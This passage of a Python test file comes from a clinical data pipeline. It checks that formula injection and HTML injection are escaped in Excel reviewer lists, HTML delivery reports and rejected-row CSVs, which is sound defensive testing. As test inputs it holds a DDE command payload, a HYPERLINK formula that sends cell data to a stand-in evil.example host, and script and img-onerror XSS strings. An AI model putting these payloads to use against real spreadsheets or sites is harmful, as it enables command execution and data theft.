    """The coordinator's record numbers go back to the outbox in the reviewer list; one that
    starts like a formula must not become one in Excel."""
    import dagster as dg

    from ibd_pipeline.defs.ingest import staging_tables
    from ibd_pipeline.defs.reconcile import reabstraction_sample
    from ibd_pipeline.defs.resources import build_resources

    paths = data_paths(tmp_path / "data").ensure()
    key_file = tmp_path / "key"
    key_file.write_bytes(KEY)
    cols = ["mrn", "abstractor_id", "sex", "birth_date", "diagnosis", "diagnosis_date", "upa_start_date", "last_followup_date"]
    mrns = {"CD": "=cmd|' /C calc'!A0", "UC": "@SUM(1)", "IBDU": "=1+1"}
    rows = [[m, "a1", "F", "1990-01-01", dx, "2015-01-01", "2024-01-01", "2024-12-01"] for dx, m in mrns.items()]
    doc = Doc("zcmu1", "A_patients_20250401.csv", {"patients": [cols] + rows}, "utf-8-sig")
    _age(doc.write(paths.inbox("zcmu1")))
    drain_inbox(paths, CENTERS["zcmu1"], settle_seconds=0, name_check=NAME_CHECK)
    result = dg.materialize(
        [staging_tables, reabstraction_sample], partition_key="zcmu1",
        resources=build_resources(paths.root, key_file=key_file), instance=dg.DagsterInstance.ephemeral(),
    )
    assert result.success
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_path(str(paths.outbox("zcmu1") / "reabstraction_sample_zcmu1.xlsx"))
    rows = book.get_sheet_by_index(0).to_python()
    listing = pd.DataFrame(rows[1:], columns=rows[0]).astype(str)
    assert len(listing) == 3  # one patient per diagnosis stratum: all sampled
    cells = [c for col in listing.columns for c in listing[col]]
    assert [c for c in cells if _dangerous(c)] == []
    assert sorted(listing["mrn"]) == sorted("'" + m for m in mrns.values())  # still readable for the reviewer


def _quarantine(value: str, n: int = 2) -> pd.DataFrame:
    return pd.DataFrame({
        "center": "zcmu1", "round": "A", "table_name": "patients", "file_name": "A_patients_20250401.csv", "sheet": None,
        "row_number": list(range(2, 2 + n)), "patient_id": "p" * 16, "field": "sex", "value": value, "rule": "code",
        "message": f"'{value}' is not a valid value of sex", "delivery_id": DELIVERY,
    })


@dataclass
class _Extract:
    table: str
    sheet: str | None
    rows_in: int
    quarantine: pd.DataFrame
    warnings: list


def test_the_delivery_report_shows_formulas_and_markup_as_escaped_text(tmp_path):
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"<b>click</b>")'
    ex = _Extract("patients", None, 3, _quarantine(payload), ["<script>alert(1)</script> unknown column '=1+1'"])
    page = write_delivery_report(tmp_path, "zcmu1", "A_patients_20250401.csv", [ex], profile=CENTERS["zcmu1"]).read_text(encoding="utf-8")
    assert html.escape(payload, quote=True) in page
    assert payload not in page and "<script>" not in page and "<b>click" not in page
    assert 'href="http://evil' not in page
    err = write_delivery_report(tmp_path, "zcmu1", "A_labs_20250401.csv", None, error="<img src=x onerror=alert(1)> =1+1",
                                profile=CENTERS["zcmu1"]).read_text(encoding="utf-8")
    assert "<img" not in err and "&lt;img src=x onerror=alert(1)&gt;" in err


def test_the_rejected_rows_csv_neutralises_formulas(tmp_path):
    ex = _Extract("patients", None, 3, _quarantine("=cmd|' /C calc'!A0"), [])
    write_delivery_report(tmp_path, "zcmu1", "A_patients_20250401.csv", [ex], profile=CENTERS["zcmu1"], max_rows=1)
    (csv_path,) = tmp_path.glob("*.rejected.csv")
    df = pd.read_csv(csv_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert [c for col in df.columns for c in df[col] if _dangerous(c)] == []
